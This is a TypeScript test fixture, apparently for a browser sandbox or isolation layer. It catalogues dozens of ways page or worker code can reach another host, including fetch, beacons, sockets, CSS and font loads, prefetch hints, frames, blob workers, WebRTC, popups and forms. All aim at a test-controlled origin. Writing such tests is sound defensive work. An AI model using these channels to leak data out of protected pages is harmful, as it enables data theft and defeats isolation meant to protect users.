// Ways in which code of a page may try to reach another host; each is also tried from an unprotected page, where it must succeed.

export interface Targets {
  /** Where requests are counted. */
  readonly origin: string;
  /** Where bare connections are counted. */
  readonly silentOrigin: string;
  readonly udpPort: number;
}

export interface Attack {
  readonly name: string;
  /** Runs in the page: must stand alone. What it throws does not matter, only what arrives. */
  readonly run: (targets: Targets) => unknown;
  /** The unprotected page cannot do it either, or only now and then; said why. */
  readonly uncontrolled?: string;
  /** May leave the page: it gets a page of its own. */
  readonly leaves?: true;
}

/** Adds an element and gives it time. Declared in the page before any attack runs. */
declare function place(html: string): Element;

/** Source of what the attacks share, run in the page first. */
export function preparePage(): void {
  Object.assign(globalThis, {
    place(html: string) {
      const holder = document.createElement('div');
      holder.innerHTML = html;
      document.body.append(holder);
      return holder.firstElementChild;
    },
  });
}

const REQUESTS: readonly Attack[] = [
  { name: 'fetch', run: ({ origin }) => fetch(`${origin}/fetch`) },
  { name: 'fetch without CORS', run: ({ origin }) => fetch(`${origin}/no-cors`, { mode: 'no-cors' }) },
  { name: 'fetch with a body', run: ({ origin }) => fetch(`${origin}/post`, { method: 'POST', body: 'x' }) },
  {
    name: 'fetch kept alive',
    run: ({ origin }) => fetch(`${origin}/keepalive`, { keepalive: true, mode: 'no-cors' }),
  },
  {
    name: 'XMLHttpRequest',
    run: ({ origin }) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${origin}/xhr`);
      request.send();
    },
  },
  { name: 'beacon', run: ({ origin }) => navigator.sendBeacon(`${origin}/beacon`, 'x') },
  { name: 'WebSocket', run: ({ origin }) => new WebSocket(`${origin.replace('http', 'ws')}/socket`) },
  { name: 'EventSource', run: ({ origin }) => new EventSource(`${origin}/events`) },
  {
    name: 'WebTransport',
    run: ({ udpPort }) => new WebTransport(`https://127.0.0.1:${udpPort}/`),
    uncontrolled: 'QUIC is switched off in the browser of the tests',
  },
  {
    name: 'fetch put off',
    run: ({ origin }) => {
      const later: unknown = Reflect.get(globalThis, 'fetchLater');
      return typeof later === 'function' ? later(`${origin}/later`, { activateAfter: 0 }) : undefined;
    },
    uncontrolled: 'not in every Chromium, and only over https',
  },
  {
    name: 'federated sign-in',
    run: ({ origin }) =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: `${origin}/fedcm.json`, clientId: 'x' }] },
      } as CredentialRequestOptions),
    uncontrolled: 'the browser asks such hosts over https only',
  },
];

const ELEMENTS: readonly Attack[] = [
  { name: 'image', run: ({ origin }) => void (new Image().src = `${origin}/image.png`) },
  { name: 'image by srcset', run: ({ origin }) => place(`<img srcset="${origin}/srcset.png 1x">`) },
  {
    name: 'picture',
    run: ({ origin }) => place(`<picture><source srcset="${origin}/picture.png"><img></picture>`),
  },
  { name: 'SVG image', run: ({ origin }) => place(`<svg><image href="${origin}/svg.png"/></svg>`) },
  { name: 'input image', run: ({ origin }) => place(`<input type="image" src="${origin}/input.png">`) },
  { name: 'video', run: ({ origin }) => place(`<video src="${origin}/video" preload="auto"></video>`) },
  { name: 'video poster', run: ({ origin }) => place(`<video poster="${origin}/poster.png"></video>`) },
  { name: 'audio', run: ({ origin }) => place(`<audio src="${origin}/audio" preload="auto"></audio>`) },
  { name: 'object', run: ({ origin }) => place(`<object data="${origin}/object.html"></object>`) },
  { name: 'embed', run: ({ origin }) => place(`<embed src="${origin}/embed.html">`) },
  { name: 'stylesheet', run: ({ origin }) => place(`<link rel="stylesheet" href="${origin}/sheet.css">`) },
  {
    name: 'CSS import',
    run: ({ origin }) => place(`<style>@import url("${origin}/imported.css");</style>`),
  },
  {
    name: 'CSS background',
    run: ({ origin }) => place(`<p style="background:url(${origin}/background.png)">x</p>`),
  },
  {
    name: 'CSS cursor',
    run: ({ origin }) => place(`<p style="cursor:url(${origin}/cursor.png),auto">x</p>`),
  },
  {
    name: 'CSS font',
    run: ({ origin }) =>
      place(
        `<p style="font-family:hostile">x<style>@font-face{font-family:hostile;src:url(${origin}/font)}</style></p>`,
      ),
  },
  { name: 'FontFace', run: ({ origin }) => new FontFace('other', `url(${origin}/font-face)`).load() },
  {
    name: 'script element',
    run: ({ origin }) => {
      const script = document.createElement('script');
      script.src = `${origin}/script.js`;
      document.head.append(script);
    },
  },
  { name: 'module import', run: ({ origin }) => import(/* @vite-ignore */ `${origin}/module.js`) },
];

const HINTS: readonly Attack[] = [
  {
    name: 'prefetch',
    run: ({ origin }) => document.head.append(place(`<link rel="prefetch" href="${origin}/prefetch">`)),
  },
  {
    name: 'preload',
    run: ({ origin }) =>
      document.head.append(place(`<link rel="preload" as="image" href="${origin}/pre.png">`)),
  },
  {
    name: 'modulepreload',
    run: ({ origin }) => document.head.append(place(`<link rel="modulepreload" href="${origin}/pre.js">`)),
  },
  {
    name: 'preconnect',
    run: ({ silentOrigin }) => document.head.append(place(`<link rel="preconnect" href="${silentOrigin}/">`)),
  },
  {
    name: 'icon',
    run: ({ origin }) => document.head.append(place(`<link rel="icon" href="${origin}/icon.png">`)),
    uncontrolled: 'a browser without a window fetches no icons',
  },
  {
    name: 'speculation rules',
    run: ({ origin }) => {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      rules.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${origin}/speculated`] }] });
      document.head.append(rules);
    },
    uncontrolled: 'prefetching of other sites may be switched off by the browser',
  },
];

const FRAMES: readonly Attack[] = [
  { name: 'frame', run: ({ origin }) => place(`<iframe src="${origin}/frame.html"></iframe>`) },
  {
    name: 'credentialless frame',
    run: ({ origin }) => place(`<iframe credentialless src="${origin}/credentialless.html"></iframe>`),
  },
  {
    name: 'fetch from an empty frame',
    run: ({ origin }) => {
      const frame = place('<iframe></iframe>') as HTMLIFrameElement;
      return (frame.contentWindow as (Window & typeof globalThis) | null)?.fetch(`${origin}/empty-frame`);
    },
  },
  {
    name: 'image in a written frame',
    run: ({ origin }) => place(`<iframe srcdoc='<img src="${origin}/srcdoc.png">'></iframe>`),
  },
  {
    name: 'script in a frame of a blob',
    run: ({ origin }) => {
      const page = new Blob([`<img src="${origin}/blob-frame.png">`], { type: 'text/html' });
      place(`<iframe src="${URL.createObjectURL(page)}"></iframe>`);
    },
  },
  {
    name: 'form into a frame',
    run: ({ origin }) => {
      place('<iframe name="sink"></iframe>');
      const form = place(`<form target="sink" action="${origin}/framed-form"></form>`);
      (form as HTMLFormElement).submit();
    },
  },
];

const WORKERS: readonly Attack[] = [
  {
    name: 'fetch from a blob worker',
    run: ({ origin }) => {
      const source = new Blob([`fetch('${origin}/blob-worker')`], { type: 'text/javascript' });
      return new Worker(URL.createObjectURL(source));
    },
  },
  {
    name: 'fetch from a data worker',
    run: ({ origin }) => new Worker(`data:text/javascript,fetch('${origin}/data-worker',{mode:'no-cors'})`),
  },
  {
    name: 'fetch from a shared blob worker',
    run: ({ origin }) => {
      const source = new Blob([`fetch('${origin}/shared-worker')`], { type: 'text/javascript' });
      return new SharedWorker(URL.createObjectURL(source));
    },
  },
  {
    name: 'CSS from a worklet',
    run: ({ origin }) => new AudioContext().audioWorklet.addModule(`${origin}/worklet.js`),
  },
];

const CONNECTIONS: readonly Attack[] = [
  {
    name: 'WebRTC over UDP',
    run: async ({ udpPort }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: 'WebRTC over TCP',
    run: async ({ silentOrigin }) => {
      const host = new URL(silentOrigin).host;
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: `turn:${host}?transport=tcp`, username: 'value', credential: 'value' }],
        iceTransportPolicy: 'relay',
      });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
];

const DEPARTURES: readonly Attack[] = [
  { name: 'popup', run: ({ origin }) => window.open(`${origin}/popup`), leaves: true },
  {
    name: 'popup without opener',
    run: ({ origin }) => window.open(`${origin}/noopener`, '_blank', 'noopener'),
    leaves: true,
  },
  {
    name: 'link into a new tab',
    run: ({ origin }) => (place(`<a target="_blank" href="${origin}/blank">x</a>`) as HTMLElement).click(),
    leaves: true,
  },
  {
    name: 'ping of a link',
    run: ({ origin }) => (place(`<a href="#x" ping="${origin}/ping">x</a>`) as HTMLElement).click(),
    leaves: true,
  },
  {
    name: 'download link',
    run: ({ origin }) => (place(`<a download href="${origin}/download">x</a>`) as HTMLElement).click(),
    leaves: true,
  },
  {
    name: 'form',
    run: ({ origin }) => (place(`<form action="${origin}/form"></form>`) as HTMLFormElement).submit(),
    leaves: true,
  },
  {
    name: 'form into a new tab',
    run: ({ origin }) =>
      (place(`<form target="_blank" action="${origin}/form-tab"></form>`) as HTMLFormElement).submit(),
    leaves: true,
  },
  {
    name: 'navigation',
    run: ({ origin }) => {
      location.href = `${origin}/navigation`;
    },
    leaves: true,
  },
  {
    name: 'refresh by a meta element',
    run: ({ origin }) =>
      document.head.append(place(`<meta http-equiv="refresh" content="0;url=${origin}/meta">`)),
    leaves: true,
  },
];

export const PAGE_ATTACKS: readonly Attack[] = [
  ...REQUESTS,
  ...ELEMENTS,
  ...HINTS,
  ...FRAMES,
  ...WORKERS,
  ...CONNECTIONS,
  ...DEPARTURES,
];

/** The same from a worker, whatever it is there for. */
export const WORKER_ATTACKS: readonly Attack[] = [
  ...REQUESTS.filter((attack) => attack.name !== 'beacon'),
  { name: 'module import', run: ({ origin }) => import(/* @vite-ignore */ `${origin}/module.js`) },
  {
    name: 'fetch from a blob worker',
    run: ({ origin }) => {
      const source = new Blob([`fetch('${origin}/blob-worker')`], { type: 'text/javascript' });
      return new Worker(URL.createObjectURL(source));
    },
  },
  {
    name: 'foreign worker',
    run: ({ origin }) => new Worker(`${origin}/worker.js`),
    uncontrolled: 'browsers start workers of their own origin only',
  },
  {
    name: 'script import of a classic worker',
    run: ({ origin }) => {
      const source = new Blob([`importScripts('${origin}/classic.js')`], { type: 'text/javascript' });
      return new Worker(URL.createObjectURL(source));
    },
  },
];
